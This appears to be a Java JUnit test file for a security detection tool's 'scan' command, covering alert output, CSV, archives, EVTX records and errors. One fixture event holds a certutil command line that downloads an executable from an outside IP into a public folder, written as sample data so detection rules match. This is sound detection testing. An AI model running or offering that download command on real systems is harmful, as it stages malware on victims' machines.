package io.centinela.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.centinela.alert.AlertIds;
import io.centinela.alert.HecEnvelope;
import io.centinela.event.EventFormat;
import io.centinela.event.EventNormalizer;
import io.centinela.event.EventParser;
import io.centinela.kafka.DeadLetterWriter;
import io.centinela.kafka.OffsetLedger;
import io.centinela.pipeline.Slot;
import io.centinela.pipeline.AlertDelivery;
import io.centinela.pipeline.AnalysisEngines;
import io.centinela.pipeline.EngineFactory;
import io.centinela.pipeline.EventAnalyzer;
import io.centinela.pipeline.PipelineStats;
import io.centinela.pipeline.ScoringPolicy;
import io.centinela.testkit.SharedData;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.common.TopicPartition;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeSet;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@code centinela scan}: the service's alerts over files, its outputs, its summary and its errors. */
class ScanCommandTest {

    /** A Sysmon process creation the project's certutil rule and YARA LOLBin rule both catch. */
    static final String ATTACK = "{\"EventID\": 1, \"SourceName\": \"Microsoft-Windows-Sysmon\", \"Channel\": "
            + "\"Microsoft-Windows-Sysmon/Operational\", \"Hostname\": \"ws01.corp.local\", \"UtcTime\": "
            + "\"2026-01-05 10:00:00.000\", \"Image\": \"C:\\\\Windows\\\\System32\\\\certutil.exe\", "
            + "\"OriginalFileName\": \"CertUtil.exe\", \"CommandLine\": \"certutil.exe -urlcache -split -f "
            + "http://203.0.113.5/a.exe C:\\\\Users\\\\Public\\\\a.exe\", \"ParentImage\": "
            + "\"C:\\\\Windows\\\\System32\\\\cmd.exe\", \"User\": \"CORP\\\\alice\"}";
    static final String BENIGN = "{\"EventID\": 1, \"SourceName\": \"Microsoft-Windows-Sysmon\", \"Channel\": "
            + "\"Microsoft-Windows-Sysmon/Operational\", \"Hostname\": \"ws02.corp.local\", \"UtcTime\": "
            + "\"2026-01-05 10:07:30.000\", \"Image\": \"C:\\\\Windows\\\\System32\\\\svchost.exe\", "
            + "\"CommandLine\": \"svchost.exe -k netsvcs -p\", \"User\": \"NT AUTHORITY\\\\SYSTEM\"}";
    static final String CERTUTIL_RULE_ID = "1ae23331-57d8-49f2-86e7-7e675878db7d";

    private static final ObjectMapper JSON = new ObjectMapper();

    private record Run(int code, String out, String err) {
    }

    private static Run run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CommandLine cli = CentinelaCli.commandLine();
        cli.setOut(new PrintWriter(out, true));
        cli.setErr(new PrintWriter(err, true));
        int code = cli.execute(args);
        return new Run(code, out.toString(), err.toString());
    }

    private static List<JsonNode> lines(String text) throws Exception {
        List<JsonNode> out = new ArrayList<>();
        for (String l : text.lines().filter(s -> !s.isBlank()).toList()) {
            out.add(JSON.readTree(l));
        }
        return out;
    }

    @Test
    void alertsAreTheServiceAnalyzersWithTheFileAsOrigin(@TempDir Path dir) throws Exception {
        Path events = Files.writeString(dir.resolve("events.jsonl"), ATTACK + "\n" + "{\"EventID\": 1, oops\n" + BENIGN + "\n");
        Path out = dir.resolve("alerts.jsonl");
        Run r = run("scan", "--model-dir", SharedData.defaultModel().toString(), "--out", out.toString(), events.toString());
        assertEquals(0, r.code(), r.err());
        assertEquals("", r.out(), "with --out nothing goes to stdout");
        List<JsonNode> scan = lines(Files.readString(out));

        // The same events through the service's EventAnalyzer, as Kafka records at offsets 0 and 1.
        List<JsonNode> service = serviceAlerts(dir, List.of(ATTACK, BENIGN), scan.size());
        assertEquals(service.size(), scan.size(), "alerts: scan " + scan + " service " + service);
        assertFalse(scan.isEmpty());
        JsonNode attack = scan.get(0);
        assertEquals(events.toString(), attack.path("origin").path("file").asText());
        assertEquals(1, attack.path("origin").path("line").asInt());
        assertTrue(attack.path("detection_sources").toString().contains("sigma"), attack.toString());
        assertTrue(attack.path("sigma").toString().contains(CERTUTIL_RULE_ID), attack.toString());
        assertTrue(attack.path("yara").toString().contains("CENTINELA_LOLBin_Download"), attack.toString());
        assertTrue(attack.has("model"), "scored by the model under the default policy (all): " + attack);
        for (int i = 0; i < scan.size(); i++) {
            JsonNode s = scan.get(i);
            JsonNode k = service.get(i);
            long line = s.path("origin").path("line").asLong();
            long offset = k.path("origin").path("offset").asLong();
            // alert_id hashes the origin and the detections: the same detections under each path's origin key
            Set<String> detections = detectionIds(k);
            assertEquals(AlertIds.of("kafka:scan-test/0/" + offset, detections), k.path("alert_id").asText());
            assertEquals(AlertIds.of("file:" + events + ":" + line, detections), s.path("alert_id").asText(),
                    "scan's alert_id is the pipeline's for the file origin");
            assertEquals(withoutOrigin(k), withoutOrigin(s), "everything but the origin is the service's alert");
        }
        validateSchema(scan);

        assertTrue(r.err().contains("3 events read, 1 rejected, 2 analysed"), r.err());
        assertTrue(r.err().contains("rejected INVALID_JSON"), r.err());
        assertTrue(r.err().contains(events + ":2: INVALID_JSON"), "the bad line with its place and reason: " + r.err());
        assertTrue(r.err().contains("alerts: " + scan.size()), r.err());
        assertTrue(r.err().contains("Certutil Used To Download A Remote File"), "top detections: " + r.err());
        assertTrue(r.err().contains("ws01.corp.local"), "per host: " + r.err());
        assertTrue(r.err().contains("CORP\\alice"), "per user: " + r.err());
        assertTrue(r.err().contains("event time: 2026-01-05T10:00:00Z .. 2026-01-05T10:07:30Z"), r.err());
        assertTrue(r.err().contains("events/s"), r.err());
    }

    @Test
    void csvHasTheMainFieldsOfTheSameAlerts(@TempDir Path dir) throws Exception {
        Path events = Files.writeString(dir.resolve("e.jsonl"), ATTACK + "\n" + BENIGN + "\n");
        Run json = run("scan", "--no-model", events.toString());
        Run csv = run("scan", "--no-model", "--csv", events.toString());
        assertEquals(0, csv.code(), csv.err());
        List<JsonNode> alerts = lines(json.out());
        assertEquals(1, alerts.size(), "rules only: the attack alone: " + json.out());
        CsvMapper mapper = new CsvMapper();
        List<List<String>> raw;
        try (MappingIterator<List<String>> it = mapper.copy().enable(CsvParser.Feature.WRAP_AS_ARRAY)
                .readerForListOf(String.class).readValues(csv.out())) {
            raw = it.readAll();
        }
        List<String> header = raw.get(0);
        assertEquals(AlertCsv.COLUMNS, header);
        List<Map<String, String>> rows;
        try (MappingIterator<Map<String, String>> it = mapper.readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv.out())) {
            rows = it.readAll();
        }
        assertEquals(1, rows.size(), csv.out());
        assertEquals(2, raw.size(), "a header and one row");
        Map<String, String> row = rows.get(0);
        JsonNode a = alerts.get(0);
        assertEquals(a.path("alert_id").asText(), row.get("alert_id"));
        assertEquals(a.path("severity").asText(), row.get("severity"));
        assertEquals(a.path("signature").asText(), row.get("signature"));
        assertEquals("2026-01-05T10:00:00Z", row.get("time"));
        assertEquals("sigma;yara", row.get("detection_sources"));
        assertEquals("CORP\\alice", row.get("user"));
        assertEquals(events + ":1", row.get("origin"));
        assertTrue(row.get("mitre_technique_id").contains("T1105"), row.toString());
    }

    @Test
    void gzAndZipAreReadInPlace(@TempDir Path dir) throws Exception {
        byte[] text = (ATTACK + "\n" + BENIGN + "\n").getBytes(StandardCharsets.UTF_8);
        Path gz = dir.resolve("e.jsonl.gz");
        try (OutputStream o = new GZIPOutputStream(Files.newOutputStream(gz))) {
            o.write(text);
        }
        Path zip = dir.resolve("e.zip");
        try (ZipOutputStream z = new ZipOutputStream(Files.newOutputStream(zip))) {
            z.putNextEntry(new ZipEntry("a/events.json"));
            z.write(text);
            z.closeEntry();
            z.putNextEntry(new ZipEntry("b/more.json"));
            z.write((BENIGN + "\n").getBytes(StandardCharsets.UTF_8));
            z.closeEntry();
        }
        Run r = run("scan", "--no-model", dir.toString());
        assertEquals(0, r.code(), r.err());
        List<JsonNode> alerts = lines(r.out());
        assertEquals(2, alerts.size(), "the attack once from the .gz and once from the .zip: " + r.out());
        Set<String> files = new TreeSet<>();
        for (JsonNode a : alerts) {
            assertTrue(a.path("sigma").toString().contains(CERTUTIL_RULE_ID), a.toString());
            files.add(a.path("origin").path("file").asText());
        }
        assertEquals(2, files.size(), "one origin per archive: " + files);
        assertNotEquals(alerts.get(0).path("alert_id"), alerts.get(1).path("alert_id"));
        assertTrue(r.err().contains("2 files, 5 events read, 0 rejected"), r.err());
    }

    @Test
    void evtxRecordsGiveTheAlertsOfTheirJsonExport() throws Exception {
        Path folder = SharedData.path("sigma/regression_data/rules/windows/process_creation/proc_creation_win_certutil_encode");
        Path evtx = folder.resolve("e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a.evtx");
        Path json = folder.resolve("e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a.json");
        String rule = SharedData.path("sigma/rules/windows/process_creation/proc_creation_win_certutil_encode.yml").toString();
        Run fromEvtx = run("scan", "--no-model", "--sigma-dir", rule, evtx.toString());
        Run fromJson = run("scan", "--no-model", "--sigma-dir", rule, json.toString());
        assertEquals(0, fromEvtx.code(), fromEvtx.err());
        List<JsonNode> a = lines(fromEvtx.out());
        List<JsonNode> b = lines(fromJson.out());
        assertFalse(a.isEmpty(), fromEvtx.err());
        assertEquals(b.size(), a.size());
        assertTrue(a.get(0).path("sigma").toString().contains("e62a9f0c-ca1e-46b2-85d5-a6da77f86d1a"), a.get(0).toString());
        assertEquals("evtx-json", a.get(0).path("origin").path("format").asText());
        assertEquals(evtx.toString(), a.get(0).path("origin").path("file").asText());
        for (int i = 0; i < a.size(); i++) {
            ObjectNode x = withoutOrigin(a.get(i));
            ObjectNode y = withoutOrigin(b.get(i));
            // origin.event is the raw record: libevtx's rendering has every value as text, the export has numbers
            assertTrue(x.path("origin").path("event").asText().contains("\"CommandLine\":\"certutil  -encode"), x.toString());
            ((ObjectNode) x.path("origin")).remove("event");
            ((ObjectNode) y.path("origin")).remove("event");
            assertEquals(y, x, "the .evtx record alerts as its evtx_dump JSON does");
        }
        assertTrue(fromEvtx.err().contains("1 files, " + a.size() + " events read, 0 rejected"), fromEvtx.err());
    }

    @Test
    void aFileThatIsNotAnEventLogIsCountedNotFatal(@TempDir Path dir) throws Exception {
        Path fake = Files.writeString(dir.resolve("fake.evtx"), "not an event log");
        Path good = Files.writeString(dir.resolve("good.jsonl"), ATTACK + "\n");
        Run r = run("scan", "--no-model", fake.toString(), good.toString());
        assertEquals(0, r.code(), r.err());
        assertEquals(1, lines(r.out()).size(), "the good file is still analysed");
        assertTrue(r.err().contains("rejected UNREADABLE_FILE"), r.err());
        assertTrue(r.err().contains(fake + ": not a readable EVTX file"), r.err());
        assertEquals(3, run("scan", "--no-model", "--fail-on-reject", fake.toString(), good.toString()).code());
    }

    @Test
    void configFileSetsRulesModelAndScoringAsForRun(@TempDir Path dir) throws Exception {
        Path events = Files.writeString(dir.resolve("e.jsonl"), ATTACK + "\n" + BENIGN + "\n");
        Path cfg = Files.writeString(dir.resolve("centinela.yaml"), String.join("\n",
                "kafka:", "  bootstrap.servers: localhost:9092", "  topics:", "    events: auto",
                "rules:", "  yara:", "    builtin: false",
                "model:", "  enabled: false",
                "pipeline:", "  scoring:", "    policy: rule-hits-first", ""));
        Run r = run("scan", "--config", cfg.toString(), events.toString());
        assertEquals(0, r.code(), r.err());
        assertTrue(r.err().matches("(?s).*\\b[1-9][0-9]* Sigma \\+ 0 YARA rules; model none, scoring rule-hits-first.*"), r.err());
        List<JsonNode> alerts = lines(r.out());
        assertEquals(1, alerts.size(), r.out());
        assertEquals("[\"sigma\"]", alerts.get(0).path("detection_sources").toString(), "YARA off by the config");
        Run both = run("scan", "--config", cfg.toString(), "--sigma-dir", dir.toString(), events.toString());
        assertEquals(2, both.code());
        assertTrue(both.err().contains("--config takes the rules from"), both.err());
    }

    @Test
    void aMissingFileIsOneLineAndExitCode2(@TempDir Path dir) throws Exception {
        Path good = Files.writeString(dir.resolve("good.jsonl"), ATTACK + "\n");
        Path missing = dir.resolve("nope.jsonl");
        Run r = run("scan", "--no-model", good.toString(), missing.toString());
        assertEquals(2, r.code(), r.err());
        assertEquals("", r.out(), "nothing analysed before the inputs are checked");
        assertEquals(List.of("centinela: " + missing + ": no such file or folder"), r.err().lines().toList());
        Run evtx = run("scan", dir.resolve("nope.evtx").toString());
        assertEquals(2, evtx.code());
        assertEquals(1, evtx.err().lines().count(), evtx.err());
        Run badPolicy = run("scan", "--scoring", "sometimes", good.toString());
        assertEquals(2, badPolicy.code());
        assertTrue(badPolicy.err().contains("--scoring must be one of all, kinds, rule-hits-first, none"), badPolicy.err());
    }

    /** The service path: EventAnalyzer over Kafka records, alerts written by AlertDelivery as HEC envelopes. */
    private static List<JsonNode> serviceAlerts(Path dir, List<String> values, int expected) throws Exception {
        Path file = dir.resolve("service-alerts.jsonl");
        PipelineStats stats = new PipelineStats();
        Properties unreachable = new Properties();
        unreachable.put("bootstrap.servers", "127.0.0.1:9"); // nothing here is rejected: the DLQ is never written
        try (AnalysisEngines engines = EngineFactory.create(new EngineFactory.Spec(true, List.of(), List.of(), true,
                SharedData.defaultModel()));
             DeadLetterWriter dlq = new DeadLetterWriter(unreachable, ".dlq", e -> { });
             AlertDelivery delivery = new AlertDelivery(null, new HecEnvelope("h", "centinela", null), file, null, null,
                     dlq, stats, 100, 1 << 20, Duration.ofMillis(1), 1);
             EventAnalyzer analyzer = new EventAnalyzer(new EventParser(EventParser.DEFAULT_MAX_BYTES,
                     EventParser.DEFAULT_MAX_DEPTH, new EventNormalizer()), Map.of("scan-test", EventFormat.AUTO),
                     engines, ScoringPolicy.all(), delivery, dlq, stats)) {
            List<ConsumerRecord<byte[], byte[]>> records = new ArrayList<>();
            for (int i = 0; i < values.size(); i++) {
                records.add(new ConsumerRecord<>("scan-test", 0, i, null, values.get(i).getBytes(StandardCharsets.UTF_8)));
            }
            List<Slot> slots = new OffsetLedger().add(new TopicPartition("scan-test", 0), records);
            analyzer.process(slots);
            long deadline = System.nanoTime() + 20_000_000_000L;
            while (slots.stream().anyMatch(s -> !s.done()) && System.nanoTime() < deadline) {
                Thread.sleep(20);
            }
            assertTrue(slots.stream().allMatch(Slot::done), "the service finished every record");
        }
        List<JsonNode> out = new ArrayList<>();
        for (JsonNode env : lines(Files.readString(file))) {
            out.add(env.path("event"));
        }
        out.sort((x, y) -> Long.compare(x.path("origin").path("offset").asLong(), y.path("origin").path("offset").asLong()));
        assertEquals(expected, out.size());
        return out;
    }

    private static Set<String> detectionIds(JsonNode alert) {
        Set<String> ids = new TreeSet<>();
        alert.path("sigma").forEach(m -> ids.add("sigma:" + m.path("id").asText()));
        alert.path("yara").forEach(m -> ids.add("yara:" + (m.hasNonNull("namespace") ? m.path("namespace").asText() + ":" : "")
                + m.path("rule").asText()));
        for (JsonNode s : alert.path("detection_sources")) {
            if (s.asText().equals("model")) {
                ids.add("model:" + alert.path("model").path("name").asText());
            }
        }
        return ids;
    }

    private static ObjectNode withoutOrigin(JsonNode alert) {
        ObjectNode o = alert.deepCopy();
        o.remove("alert_id");
        ObjectNode origin = (ObjectNode) o.path("origin");
        for (String k : List.of("topic", "partition", "offset", "timestamp", "file", "line")) {
            origin.remove(k);
        }
        return o;
    }

    private static void validateSchema(List<JsonNode> alerts) throws Exception {
        var schema = com.networknt.schema.JsonSchemaFactory.getInstance(com.networknt.schema.SpecVersion.VersionFlag.V202012)
                .getSchema(Files.readString(SharedData.repo().resolve("docs/alert-schema.json")));
        for (JsonNode a : alerts) {
            assertEquals(Set.of(), schema.validate(a), "alert follows docs/alert-schema.json: " + a);
        }
    }
}
